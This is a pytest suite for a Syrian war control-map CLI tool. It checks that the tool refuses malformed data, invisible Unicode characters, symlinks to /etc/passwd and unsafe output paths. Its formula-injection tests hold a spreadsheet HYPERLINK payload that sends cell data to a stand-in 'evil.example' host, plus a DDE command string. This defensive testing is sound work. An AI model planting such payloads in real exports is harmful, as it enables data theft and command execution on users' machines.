"""The bad-input catalogue: what a careless or hostile user can feed the tool, and what it says.

Every case runs the real command on a temporary copy of ``geodata/`` (its gazetteer cut to
the places the claims and events name, so that a case takes a fraction of a second) and
asserts that the command

- exits non-zero,
- says what is wrong in a message naming the file, the line and the field where there is one,
- leaves the data folder byte-identical (and, for ``build``, the previous site too).

docs/bad-input.md lists the promises these cases hold the project to.
"""

from __future__ import annotations

import csv
import fcntl
import io
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from aleppo_map.buildinfo import MANIFEST, read_manifest

GEODATA = Path(__file__).resolve().parents[1] / "geodata"

# -- a small copy of geodata/ -----------------------------------------------------------------


@pytest.fixture(scope="session")
def mini_template(tmp_path_factory) -> Path:
    """geodata/ with its gazetteer cut to the places the claims and events name (and their
    parents): the same files, columns, boundaries, licences and lexicons, read in well under
    a second."""
    dest = tmp_path_factory.mktemp("mini") / "geodata"
    shutil.copytree(GEODATA, dest)
    read = lambda name: pd.read_csv(GEODATA / name, dtype=str, keep_default_na=False)  # noqa: E731
    places, claims, events, curated = (
        read(n) for n in ("places.csv", "claims.csv", "events.csv", "places_curated.csv")
    )
    keep = set(claims["place_id"]) | set(events["place_id"]) | set(curated["parent_id"])
    for ex in claims["except"]:
        keep |= set(filter(None, ex.split(";")))
    parent = dict(zip(places["id"], places["parent_id"], strict=True))
    for pid in list(keep):
        while pid:
            keep.add(pid)
            pid = parent.get(pid, "")
    places[places["id"].isin(keep)].to_csv(dest / "places.csv", index=False)
    aliases = read("aliases.csv")
    aliases[aliases["place_id"].isin(keep | set(curated["id"]))].to_csv(dest / "aliases.csv", index=False)
    return dest


@pytest.fixture
def data(mini_template, tmp_path) -> Path:
    """A writable copy of the small geodata for one case."""
    dest = tmp_path / "data"
    shutil.copytree(mini_template, dest, symlinks=True)
    return dest


@pytest.fixture(scope="session")
def built_site(mini_template, tmp_path_factory) -> Path:
    """One site built from the small geodata, shared by every build case (a case that
    damaged it would fail its own byte-identity check)."""
    from click.testing import CliRunner

    from aleppo_map.cli import main

    out = tmp_path_factory.mktemp("built") / "site"
    result = CliRunner().invoke(main, ["--data", str(mini_template), "build", "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every file's bytes (a link's target), to prove a command changed nothing."""
    out: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_symlink():
            out[rel] = "-> " + os.readlink(path)
        elif path.is_file():
            out[rel] = path.read_bytes()
    return out


# -- editing the copy ----------------------------------------------------------------------------

CLAIM = {
    "id": "bad-1",
    "place_id": "saraqib",
    "side": "opposition",
    "action": "captured",
    "stance": "attributed",
    "scope": "place",
    "except": "",
    "about_date": "2024-11-29",
    "about_precision": "day",
    "held_since": "",
    "published": "2024-11-30",
    "outlet": "afp",
    "claimant": "sohr",
    "quote": "took the town",
    "origin": "test",
    "note": "",
}


def header(path: Path) -> list[str]:
    return next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def first_row(path: Path) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def lines(path: Path) -> int:
    return len(path.read_bytes().splitlines())


def append(data: Path, filename: str, /, **cells) -> int:
    """Append a row (the file's first row, or a sound claim, with ``cells`` changed); its line."""
    path = data / filename
    base = CLAIM if filename == "claims.csv" else first_row(path)
    row = {**base, **cells}
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([row.get(c, "") for c in header(path)])
    text = path.read_text(encoding="utf-8")
    if not text.endswith("\n"):
        text += "\n"
    path.write_text(text + buf.getvalue(), encoding="utf-8")
    return lines(path)


def edit(data: Path, name: str, old: str, new: str, count: int = 1) -> int:
    """Replace text in a file; the line of the first replacement."""
    path = data / name
    text = path.read_text(encoding="utf-8")
    assert old in text, (name, old)
    line = text[: text.index(old)].count("\n") + 1
    path.write_text(text.replace(old, new, count), encoding="utf-8")
    return line


def line_of(data: Path, name: str, start: str) -> int:
    for i, line in enumerate((data / name).read_text(encoding="utf-8").splitlines(), 1):
        if line.startswith(start):
            return i
    raise AssertionError(f"no line of {name} starts with {start!r}")


def set_cell(data: Path, name: str, row_id: str, column: str, value: str) -> int:
    """Set one cell of the row whose first column is ``row_id``; that row's line."""
    path = data / name
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    col = rows[0].index(column)
    for row in rows:
        if row and row[0] == row_id:
            row[col] = value
            buf = io.StringIO()
            csv.writer(buf, lineterminator="\n").writerows(rows)
            path.write_text(buf.getvalue(), encoding="utf-8")
            return line_of(data, name, row_id + ",")
    raise AssertionError(f"no row {row_id!r} in {name}")


CANDIDATE_COLUMNS = (
    "id,kind,status,place_id,side,action,stance,scope,except,about_date,about_precision,held_since,published,"
    "outlet,claimant,quote,origin,note,type,figure,group,low,best,high,confidence,cue,place_text,start,end,added_as"
).split(",")


def write_candidates(path: Path, *rows: dict) -> Path:
    """A candidates file as ``aleppo-map ingest`` writes it, with claim rows built on CLAIM."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(CANDIDATE_COLUMNS)
    for cells in rows:
        row = {**CLAIM, "kind": "claim", "status": "candidate", "confidence": "0.80", **cells}
        writer.writerow([row.get(c, "") for c in CANDIDATE_COLUMNS])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


# -- the catalogue -------------------------------------------------------------------------------


@dataclass
class Case:
    """One bad input: how to make it, which command meets it, what it must say."""

    name: str
    make: Callable[[Path], list[str]]  # edits the data folder, returns the expected messages
    command: tuple[str, ...] = ("validate",)


CASES: list[Case] = []


def case(name: str, *command: str):
    def register(fn):
        CASES.append(Case(name, fn, command or ("validate",)))
        return fn

    return register


# places.csv ------------------------------------------------------------------------------------
@case("place-duplicate-id")
def _(d):
    n = append(d, "places.csv")
    first = first_row(d / "places.csv")["id"]
    return [f"places.csv:{n}: id: duplicate id '{first}' (first on line 2)"]


@case("place-bad-kind")
def _(d):
    n = append(d, "places.csv", id="x1", kind="hamlet")
    return [f"places.csv:{n}: kind: 'hamlet' is not one of"]


@case("place-lat-not-a-number")
def _(d):
    n = append(d, "places.csv", id="x1", lat="35,5")
    return [f"places.csv:{n}: lat: '35,5' is not a number"]


@case("place-lon-infinite")
def _(d):
    n = append(d, "places.csv", id="x1", lon="inf")
    return [f"places.csv:{n}: lon: 'inf' is not a finite number"]


@case("place-outside-the-bounding-box")
def _(d):
    n = append(d, "places.csv", id="x1", lat="48.85", lon="2.35")
    return [f"places.csv:{n}: lat: 48.85, 2.35 lies outside the dataset's bounds"]


@case("place-swapped-outside-the-box")
def _(d):
    n = set_cell(d, "places.csv", "sy-aleppo", "lat", "37.61667")
    set_cell(d, "places.csv", "sy-aleppo", "lon", "36.25")
    return [f"places.csv:{n}: lat: 37.61667, 36.25 lies outside the dataset's bounds", "(lat and lon look swapped)"]


@case("place-swapped-inside-the-box")
def _(d):
    n = set_cell(d, "places.csv", "saraqib", "lat", "36.80591")
    set_cell(d, "places.csv", "saraqib", "lon", "35.86447")
    return [f"places.csv:{n}: lat: 36.80591, 35.86447 lies outside the country outline", "look swapped"]


@case("place-swapped-inside-the-box-but-in-turkey")
def _(d):
    n = set_cell(d, "places.csv", "aleppo", "lat", "37.16")
    set_cell(d, "places.csv", "aleppo", "lon", "36.20")
    return [f"places.csv:{n}: lat: 37.16, 36.2 lies outside the country outline", "(lat and lon look swapped)"]


@case("place-in-lebanon-inside-the-box")
def _(d):
    n = append(d, "places.csv", id="tripoli-x", lat="34.43", lon="35.84")
    return [f"places.csv:{n}: lat: 34.43, 35.84 lies outside the country outline"]


@case("place-in-jordan-inside-the-box")
def _(d):
    n = append(d, "places.csv", id="irbid-x", lat="32.55", lon="35.85")
    return [f"places.csv:{n}: lat: 32.55, 35.85 lies outside the country outline"]


@case("place-in-iraq-inside-the-box")
def _(d):
    n = append(d, "places.csv", id="iraq-x", lat="36.34", lon="42.35")
    return [f"places.csv:{n}: lat: 36.34, 42.35 lies outside the country outline"]


@case("place-unknown-parent")
def _(d):
    n = append(d, "places.csv", id="x1", parent_id="nowhere")
    return [f"places.csv:{n}: parent_id: unknown parent place 'nowhere'"]


@case("place-its-own-parent")
def _(d):
    n = set_cell(d, "places.csv", "saraqib", "parent_id", "saraqib")
    return [f"places.csv:{n}: parent_id: a place cannot be its own parent"]


@case("place-parent-cycle")
def _(d):
    n = append(d, "places.csv", id="x1", parent_id="x2")
    append(d, "places.csv", id="x2", parent_id="x1")
    return [f"places.csv:{n}: parent_id: parents form a cycle: x1 > x2 > x1"]


@case("place-bad-precision")
def _(d):
    n = append(d, "places.csv", id="x1", precision="7")
    return [f"places.csv:{n}: precision: '7' is not one of"]


@case("place-without-a-name")
def _(d):
    n = append(d, "places.csv", id="x1", name="")
    return [f"places.csv:{n}: name: is required"]


@case("place-without-a-source")
def _(d):
    n = append(d, "places.csv", id="x1", source="")
    return [f"places.csv:{n}: source: is required"]


@case("place-id-with-a-space")
def _(d):
    n = append(d, "places.csv", id="new place")
    return [f"places.csv:{n}: id: 'new place' is not a valid id"]


@case("place-name-with-a-right-to-left-override")
def _(d):
    n = set_cell(d, "places.csv", "saraqib", "name", "Sara\u202eqib")
    return [
        f"places.csv:{n}: name: holds an invisible control, bidirectional override or zero-width character (U+202E)"
    ]


@case("place-arabic-name-with-a-zero-width-space")
def _(d):
    n = set_cell(d, "places.csv", "saraqib", "name_ar", "سرا\u200bقب")
    return [f"places.csv:{n}: name_ar: holds an invisible control", "(U+200B)"]


@case("place-name-with-a-bidi-isolate")
def _(d):
    n = set_cell(d, "places.csv", "saraqib", "name", "\u2067Saraqib\u2069")
    return [f"places.csv:{n}: name:", "(U+2067)"]


@case("places-header-missing-a-column")
def _(d):
    edit(d, "places.csv", ",precision,", ",prec,")
    return ["places.csv:1: precision: column is missing from the header"]


@case("places-row-with-too-many-fields")
def _(d):
    path = d / "places.csv"
    path.write_text(path.read_text(encoding="utf-8") + "x1,X,,town,,35,37,1,,,,,,,src,,extra\n", encoding="utf-8")
    return [f"places.csv:{lines(path)}: has 17 fields; the header has 16"]


@case("places-row-with-too-few-fields")
def _(d):
    path = d / "places.csv"
    path.write_text(path.read_text(encoding="utf-8") + "x1,X,,town\n", encoding="utf-8")
    return [f"places.csv:{lines(path)}: has 4 fields; the header has 16"]


@case("places-not-utf8")
def _(d):
    path = d / "places.csv"
    path.write_bytes(path.read_bytes() + "x1,Zénda,,town,,35,37,1,,,,,,,src,\n".encode("latin-1"))
    return [f"places.csv:{lines(path)}: is not UTF-8 (byte 0xe9"]


@case("places-nul-byte")
def _(d):
    path = d / "places.csv"
    path.write_bytes(path.read_bytes() + b"x1,X\x00,,town,,35,37,1,,,,,,,src,\n")
    return [f"places.csv:{lines(path)}: holds a NUL byte"]


@case("places-empty-file")
def _(d):
    (d / "places.csv").write_bytes(b"")
    return ["places.csv:1: file is empty; expected a header row"]


@case("places-missing")
def _(d):
    (d / "places.csv").unlink()
    return ["places.csv: file is missing"]


@case("places-is-a-folder")
def _(d):
    (d / "places.csv").unlink()
    (d / "places.csv").mkdir()
    return ["places.csv: is not a file"]


@case("places-curated-duplicates-a-place")
def _(d):
    n = append(d, "places_curated.csv", id="saraqib")
    return [f"places_curated.csv:{n}: id: duplicate id 'saraqib' (also places.csv:"]


# aliases ----------------------------------------------------------------------------------------
@case("alias-of-an-unknown-place")
def _(d):
    n = append(d, "aliases.csv", place_id="atlantis")
    return [f"aliases.csv:{n}: place_id: unknown place 'atlantis'"]


@case("alias-with-a-zero-width-joiner")
def _(d):
    n = append(d, "aliases_curated.csv", alias="Sar\u200daqib")
    return [f"aliases_curated.csv:{n}: alias: holds an invisible control", "(U+200D)"]


# sides and sources ----------------------------------------------------------------------------
@case("side-named-like-a-state")
def _(d):
    n = append(d, "sides.csv", id="contested")
    return [f"sides.csv:{n}: id: 'contested' is a state, not a side"]


@case("side-bad-colour")
def _(d):
    n = set_cell(d, "sides.csv", "government", "colour", "red")
    return [f"sides.csv:{n}: colour: 'red' is not a colour in the form #rrggbb"]


@case("side-duplicate-id")
def _(d):
    n = append(d, "sides.csv")
    return [f"sides.csv:{n}: id: duplicate id 'government' (first on line 2)"]


@case("side-label-too-long")
def _(d):
    n = set_cell(d, "sides.csv", "government", "label", "x" * 81)
    return [f"sides.csv:{n}: label: is 81 characters long; at most 80 allowed"]


@case("source-of-an-unknown-side")
def _(d):
    n = append(d, "sources.csv", id="militia", role="party", side="purple")
    return [f"sources.csv:{n}: side: unknown side 'purple'; sides are:"]


@case("source-party-without-a-side")
def _(d):
    n = append(d, "sources.csv", id="militia", role="party", side="")
    return [f"sources.csv:{n}: side: a party to the war needs the side it belongs to"]


@case("source-bad-role")
def _(d):
    n = append(d, "sources.csv", id="blog", role="blogger")
    return [f"sources.csv:{n}: role: 'blogger' is not one of"]


@case("source-name-with-an-override")
def _(d):
    n = set_cell(d, "sources.csv", "afp", "name", "AFP \u202dx")
    return [f"sources.csv:{n}: name: holds an invisible control", "(U+202D)"]


# claims -------------------------------------------------------------------------------------------
@case("claim-unknown-place-with-a-suggestion")
def _(d):
    n = append(d, "claims.csv", place_id="Saraqeb")
    return [f"claims.csv:{n}: place_id: unknown place 'Saraqeb'; did you mean: saraqib"]


@case("claim-unknown-side")
def _(d):
    n = append(d, "claims.csv", side="green")
    return [f"claims.csv:{n}: side: unknown side 'green'; sides are:"]


@case("claim-impossible-date")
def _(d):
    n = append(d, "claims.csv", about_date="2024-02-30")
    return [f"claims.csv:{n}: about_date: '2024-02-30' is not a real date"]


@case("claim-date-in-words")
def _(d):
    n = append(d, "claims.csv", about_date="yesterday")
    return [f"claims.csv:{n}: about_date: 'yesterday' is not a date in the form YYYY-MM-DD"]


@case("claim-date-in-another-order")
def _(d):
    n = append(d, "claims.csv", about_date="29/11/2024")
    return [f"claims.csv:{n}: about_date: '29/11/2024' is not a date in the form YYYY-MM-DD"]


@case("claim-about-a-day-after-publication")
def _(d):
    n = append(d, "claims.csv", about_date="2024-12-01")
    return [f"claims.csv:{n}: about_date: 2024-12-01 is after the publication date 2024-11-30"]


@case("claim-before-the-war")
def _(d):
    n = append(d, "claims.csv", about_date="2009-01-01", published="2009-01-02")
    return [f"claims.csv:{n}: about_date: 2009-01-01 is before 2011-01-01"]


@case("claim-in-the-future")
def _(d):
    n = append(d, "claims.csv", about_date="2999-01-01", published="2999-01-02")
    return [f"claims.csv:{n}: about_date: 2999-01-01 is in the future", f"claims.csv:{n}: published: 2999-01-02"]


@case("claim-duplicate-id")
def _(d):
    n = append(d, "claims.csv", id="clm-0001")
    return [f"claims.csv:{n}: id: duplicate id 'clm-0001' (first on line 2)"]


@case("claim-without-an-outlet")
def _(d):
    n = append(d, "claims.csv", outlet="")
    return [f"claims.csv:{n}: outlet: is required"]


@case("claim-by-an-unknown-claimant")
def _(d):
    n = append(d, "claims.csv", claimant="nobody")
    return [f"claims.csv:{n}: claimant: 'nobody' is not in sources.csv"]


@case("claim-quote-too-long")
def _(d):
    n = append(d, "claims.csv", quote="x" * 400)
    return [f"claims.csv:{n}: quote: is 400 characters long; at most 300 allowed"]


@case("claim-bad-action")
def _(d):
    n = append(d, "claims.csv", action="liberated")
    return [f"claims.csv:{n}: action: 'liberated' is not one of"]


@case("claim-bad-stance")
def _(d):
    n = append(d, "claims.csv", stance="rumoured")
    return [f"claims.csv:{n}: stance: 'rumoured' is not one of"]


@case("claim-attributed-without-a-claimant")
def _(d):
    n = append(d, "claims.csv", claimant="")
    return [f"claims.csv:{n}: claimant: a claim attributed needs the claimant who made it"]


@case("claim-exception-without-whole-scope")
def _(d):
    n = append(d, "claims.csv", place_id="aleppo", **{"except": "sheikh-maqsoud"})
    return [f"claims.csv:{n}: except: exceptions only make sense with scope 'whole'"]


@case("claim-exception-of-an-unknown-place")
def _(d):
    n = append(d, "claims.csv", place_id="aleppo", scope="whole", **{"except": "atlantis"})
    return [f"claims.csv:{n}: except: unknown place 'atlantis'"]


@case("claim-held-since-on-a-capture")
def _(d):
    n = append(d, "claims.csv", held_since="2020-01-01")
    return [f"claims.csv:{n}: held_since: only a 'holds' claim can say since when"]


@case("claim-held-since-after-the-date")
def _(d):
    n = append(d, "claims.csv", action="holds", held_since="2024-11-30")
    return [f"claims.csv:{n}: held_since: is after the date the claim is about"]


@case("claim-bad-precision")
def _(d):
    n = append(d, "claims.csv", about_precision="hour")
    return [f"claims.csv:{n}: about_precision: 'hour' is not one of"]


@case("claims-unterminated-quote")
def _(d):
    path = d / "claims.csv"
    before = lines(path)
    path.write_text(path.read_text(encoding="utf-8") + 'bad-1,saraqib,opposition,"captured\n', encoding="utf-8")
    return [f"claims.csv:{before + 1}: has 4 fields; the header has 16"]


# events ------------------------------------------------------------------------------------------
@case("event-figures-out-of-order")
def _(d):
    n = append(d, "events.csv", id="bad-e1", low="9", best="5", high="")
    return [f"events.csv:{n}: low: figures must satisfy low <= best <= high"]


@case("event-figure-not-a-whole-number")
def _(d):
    n = append(d, "events.csv", id="bad-e1", best="about 5")
    return [f"events.csv:{n}: best: 'about 5' is not a whole number"]


@case("event-negative-figure")
def _(d):
    n = append(d, "events.csv", id="bad-e1", best="-5")
    return [f"events.csv:{n}: best: -5 is negative: a count of people cannot be"]


@case("event-unknown-place")
def _(d):
    n = append(d, "events.csv", id="bad-e1", place_id="atlantis")
    return [f"events.csv:{n}: place_id: unknown place 'atlantis'"]


@case("event-bad-type")
def _(d):
    n = append(d, "events.csv", id="bad-e1", type="picnic")
    return [f"events.csv:{n}: type: 'picnic' is not one of"]


# lexicons -----------------------------------------------------------------------------------------
@case("claimant-phrase-of-an-unknown-source")
def _(d):
    n = append(d, "claimants.csv", phrase="Some Monitor", source_id="nobody")
    return [f"claimants.csv:{n}: source_id: 'nobody' is not in sources.csv"]


# files besides the tables (build reads them) ------------------------------------------------------
@case("country-outline-truncated")
def _(d):
    path = d / "boundaries" / "country.geojson"
    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) // 2])
    return ["boundaries/country.geojson:", "is not valid JSON (truncated?)"]


@case("governorates-truncated")
def _(d):
    path = d / "boundaries" / "governorates.geojson"
    path.write_bytes(path.read_bytes()[:5000])
    return ["boundaries/governorates.geojson:", "is not valid JSON (truncated?)"]


@case("boundaries-not-geojson")
def _(d):
    (d / "boundaries" / "districts.geojson").write_text("[1, 2, 3]\n", encoding="utf-8")
    return ["boundaries/districts.geojson:1: type: is not a GeoJSON FeatureCollection"]


@case("boundaries-of-points")
def _(d):
    (d / "boundaries" / "points.geojson").write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},'
        ' "geometry": {"type": "Point", "coordinates": [37, 35]}}]}\n',
        encoding="utf-8",
    )
    return ["boundaries/points.geojson: geometry: holds Point; boundaries must be (multi)polygons"]


@case("boundaries-not-utf8")
def _(d):
    (d / "boundaries" / "x.geojson").write_bytes(b'{"type": "FeatureCollection", "name": "\xe9"}')
    return ["boundaries/x.geojson:1: is not UTF-8"]


@case("attribution-not-utf8")
def _(d):
    path = d / "ATTRIBUTION.txt"
    path.write_bytes(path.read_bytes() + "Cartes: © Zénda\n".encode("latin-1"))
    return [f"ATTRIBUTION.txt:{lines(path)}: is not UTF-8"]


@case("attribution-is-a-folder")
def _(d):
    (d / "ATTRIBUTION.txt").unlink()
    (d / "ATTRIBUTION.txt").mkdir()
    return ["ATTRIBUTION.txt: is not a file"]


@case("licence-links-to-etc-passwd")
def _(d):
    (d / "licenses" / "X").symlink_to("/etc/passwd")
    return ["licenses/X: is a symbolic link to /etc/passwd, outside the data folder"]


@case("attribution-links-outside")
def _(d):
    outside = d.parent / "elsewhere.txt"
    outside.write_text("not ours\n", encoding="utf-8")
    (d / "ATTRIBUTION.txt").unlink()
    (d / "ATTRIBUTION.txt").symlink_to(outside)
    return ["ATTRIBUTION.txt: is a symbolic link to", "outside the data folder"]


@case("claims-link-outside")
def _(d):
    outside = d.parent / "claims-elsewhere.csv"
    shutil.move(d / "claims.csv", outside)
    (d / "claims.csv").symlink_to(outside)
    return ["claims.csv: is a symbolic link to", "outside the data folder"]


@case("boundaries-folder-links-outside")
def _(d):
    outside = d.parent / "shapes"
    shutil.move(d / "boundaries", outside)
    (d / "boundaries").symlink_to(outside)
    return ["boundaries: is a symbolic link to", "outside the data folder"]


@case("broken-link")
def _(d):
    (d / "licenses" / "GONE").symlink_to(d / "licenses" / "nothing-here")
    return ["licenses/GONE: is a broken symbolic link"]


@case("licence-folder-inside-licences")
def _(d):
    (d / "licenses" / "more").mkdir()
    return ["licenses/more: is not a file"]


@case("no-data-folder")
def _(d):
    shutil.rmtree(d)
    return ["data folder does not exist"]


@case("many-problems-at-once")
def _(d):
    a = append(d, "claims.csv", side="green")
    b = append(d, "claims.csv", id="bad-2", place_id="atlantis")
    c = set_cell(d, "sides.csv", "government", "colour", "red")
    return [f"claims.csv:{a}: side:", f"claims.csv:{b}: place_id:", f"sides.csv:{c}: colour:", "3 problem(s)"]


# every command, not only validate ------------------------------------------------------------------
@case("states-on-bad-data", "states", "--date", "2024-11-30", "--format", "csv")
def _(d):
    n = append(d, "claims.csv", side="green")
    return [f"claims.csv:{n}: side: unknown side 'green'", "run 'aleppo-map validate' after fixing them"]


@case("build-on-a-truncated-outline", "build", "--out", "{site}")
def _(d):
    path = d / "boundaries" / "country.geojson"
    path.write_bytes(path.read_bytes()[:1000])
    return ["boundaries/country.geojson:", "is not valid JSON"]


@case("build-on-a-non-utf8-attribution", "build", "--out", "{site}")
def _(d):
    (d / "ATTRIBUTION.txt").write_bytes("© Zénda\n".encode("latin-1"))
    return ["ATTRIBUTION.txt:1: is not UTF-8"]


@case("build-with-a-licence-linking-outside", "build", "--out", "{site}")
def _(d):
    (d / "licenses" / "X").symlink_to("/etc/passwd")
    return ["licenses/X: is a symbolic link to /etc/passwd"]


@case("build-with-aleppo-in-turkey", "build", "--out", "{site}")
def _(d):
    n = set_cell(d, "places.csv", "aleppo", "lat", "37.16")
    set_cell(d, "places.csv", "aleppo", "lon", "36.20")
    return [f"places.csv:{n}: lat: 37.16, 36.2 lies outside the country outline"]


@case("build-into-the-data-folder", "build", "--out", "{data}/site")
def _(d):
    return ["--out", "lies inside the data folder", "no command writes there except 'review'"]


@case("build-over-the-data-folder", "build", "--out", "{data}")
def _(d):
    return ["lies inside the data folder"]


@case("build-over-a-file", "build", "--out", "{data}/../a-file")
def _(d):
    (d.parent / "a-file").write_text("keep me\n", encoding="utf-8")
    return ["a-file' is a file"]


@case("build-over-a-folder-it-did-not-build", "build", "--out", "{data}/../mine")
def _(d):
    (d.parent / "mine").mkdir()
    (d.parent / "mine" / "notes.txt").write_text("keep me\n", encoding="utf-8")
    return ["is not empty and was not built by aleppo-map"]


@case("build-with-a-bad-candidates-file", "build", "--out", "{site}", "--include", "{data}/../c.csv")
def _(d):
    write_candidates(d.parent / "c.csv", {"id": "cand-1", "place_id": "atlantis"})
    return ["c.csv:2: place_id: unknown place 'atlantis'"]


@case("export-over-places-csv", "export", "--date", "2024-11-30", "--format", "csv", "--out", "{data}/places.csv")
def _(d):
    return ["--out", "places.csv lies inside the data folder"]


@case(
    "export-into-boundaries", "export", "--date", "all", "--format", "geojson", "--out", "{data}/boundaries/x.geojson"
)
def _(d):
    return ["lies inside the data folder"]


@case(
    "export-through-a-link-into-the-data",
    "export",
    "--date",
    "all",
    "--format",
    "csv",
    "--out",
    "{data}/../ln/claims.csv",
)
def _(d):
    (d.parent / "ln").symlink_to(d)
    return ["lies inside the data folder"]


@case("scenario-over-another-dataset", "scenario", "--out", "{data}/../other", "--claims", "1000", "--days", "2")
def _(d):
    shutil.copytree(d, d.parent / "other")
    return ["--out", "other lies inside the data folder", "a scenario is a new dataset"]


@case("scenario-into-the-data-folder", "scenario", "--out", "{data}/bench", "--claims", "1000", "--days", "2")
def _(d):
    return ["lies inside the data folder"]


@case("states-impossible-date", "states", "--date", "2024-02-30")
def _(d):
    return ["--date", "2024-02-30"]


@case("changes-backwards", "changes", "--from", "2024-12-01", "--to", "2024-11-26")
def _(d):
    return ["--to", "must not be before --from"]


@case("explain-unknown-place", "explain", "Atlantis", "--date", "2024-11-30")
def _(d):
    return ["unknown place 'Atlantis'"]


def _fill(arg: str, data: Path, site: Path) -> str:
    return arg.replace("{data}", str(data)).replace("{site}", str(site))


@pytest.mark.parametrize("bad", CASES, ids=[c.name for c in CASES])
def test_bad_input_is_refused_with_a_message_naming_file_line_and_field_and_changes_nothing(bad, data, cli, request):
    site = request.getfixturevalue("built_site") if bad.command[0] == "build" else data.parent / "no-site"
    expected = bad.make(data)
    data_before = snapshot(data) if data.exists() else None
    outside = {
        p.name: snapshot(p) if p.is_dir() else p.read_bytes()
        for p in data.parent.iterdir()
        if p != data and not p.is_symlink()
    }
    site_before = snapshot(site) if site.exists() else None
    result = cli("--data", data, *(_fill(a, data, site) for a in bad.command))
    assert result.exit_code != 0, result.output
    for message in expected:
        assert message in result.output, (message, result.output)
    assert "Traceback" not in result.output
    if data_before is not None:
        assert snapshot(data) == data_before, "the data folder changed"
    if site_before is not None:
        assert snapshot(site) == site_before, "the previous site changed"
    for name, before in outside.items():
        path = data.parent / name
        assert (snapshot(path) if path.is_dir() else path.read_bytes()) == before, f"{name} changed"


def test_the_catalogue_is_broad():
    assert len(CASES) >= 60


# odd but valid: read right ---------------------------------------------------------------------------
def _bom(d):
    path = d / "claims.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


def _crlf(d):
    path = d / "events.csv"
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))


def _extra_column(d):
    path = d / "sides.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([[*r, "mine" if i == 0 else "x"] for i, r in enumerate(rows) if r])
    path.write_text(buf.getvalue(), encoding="utf-8")


def _blank_lines_and_directional_marks(d):
    set_cell(d, "places.csv", "saraqib", "name_ar", "سراقب\u200e")
    path = d / "aliases.csv"
    path.write_text(path.read_text(encoding="utf-8") + "\n\n", encoding="utf-8")


def _border_town(d):
    # Bab al-Hawa, the crossing on the border with Turkey, lies on the outline's edge.
    append(d, "places.csv", id="bab-al-hawa-x", name="Bab al-Hawa", lat="36.2325", lon="36.6677", parent_id="")


@pytest.mark.parametrize(
    "make", [_bom, _crlf, _extra_column, _blank_lines_and_directional_marks, _border_town], ids=lambda f: f.__name__[1:]
)
def test_odd_but_valid_input_is_read_right(make, data, cli, dataset):
    make(data)
    result = cli("--data", data, "validate")
    assert result.exit_code == 0, result.output
    sides = len(dataset.sides)  # every side of the shipped data is still read
    assert re.search(rf"ok: \d+ places, \d+ aliases, {sides} sides", result.output), result.output


def test_geocoding_punctuation_says_it_has_no_letters(cli):
    result = cli("geocode", "!!!", "--format", "json")
    assert result.exit_code == 0
    assert "no letters" in result.output


# formula injection -------------------------------------------------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_a_formula_in_a_name_reaches_no_csv_as_a_formula(data, cli, tmp_path):
    set_cell(data, "places.csv", "saraqib", "name", HYPERLINK)
    set_cell(data, "sources.csv", "afp", "name", "+cmd|' /C calc'!A0")
    out = tmp_path / "out.csv"
    result = cli("--data", data, "export", "--date", "2024-11-30", "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    saraqib = next(r for r in rows if r["place_id"] == "saraqib")
    assert saraqib["location"] == "'" + HYPERLINK
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert any("+cmd" in r["source"] for r in rows)
    assert all(float(r["latitude"]) for r in rows)  # numbers are left as numbers
    states = cli("--data", data, "states", "--date", "2024-11-30", "--format", "csv")
    assert "'=HYPERLINK" in states.output and '"=HYPERLINK' not in states.output


def test_a_formula_in_a_name_is_neutralised_in_the_site_downloads(mini_template, tmp_path, cli):
    data = tmp_path / "data"
    shutil.copytree(mini_template, data)
    set_cell(data, "places.csv", "saraqib", "name", HYPERLINK)
    result = cli("--data", data, "build", "--out", tmp_path / "site")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "site" / "downloads" / "2024-12-01.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    assert "'=HYPERLINK" in (tmp_path / "site" / "downloads" / "timeline.csv").read_text(encoding="utf-8")


# build --include, the site's repair, leftovers, the lock, the umask ---------------------------------
def test_build_include_previews_a_candidate_that_decides_a_state_marked_not_reviewed(mini_template, tmp_path, cli):
    cands = write_candidates(
        tmp_path / "c.csv", {"id": "cand-a-001", "quote": "Rebels took the town, the monitor said."}
    )
    result = cli("--data", mini_template, "build", "--out", tmp_path / "site", "--include", cands)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader((tmp_path / "site" / "downloads" / "2024-11-29.changes.csv").open(encoding="utf-8")))
    saraqib = next(r for r in rows if r["place_id"] == "saraqib")
    assert "cand-a-001" in saraqib["claims"]
    assert "Agence France-Presse (AFP) (NOT REVIEWED)" in saraqib["source"]


def test_an_edited_or_deleted_page_is_repaired_not_called_up_to_date(mini_template, tmp_path, cli):
    site = tmp_path / "site"
    assert cli("--data", mini_template, "build", "--out", site).exit_code == 0
    built = snapshot(site)
    assert "up to date" in cli("--data", mini_template, "build", "--out", site).output
    (site / "maps" / "latest.html").unlink()
    (site / "index.html").write_text("defaced", encoding="utf-8")
    (site / "downloads" / "2024-12-01.csv").write_text("x\n", encoding="utf-8")
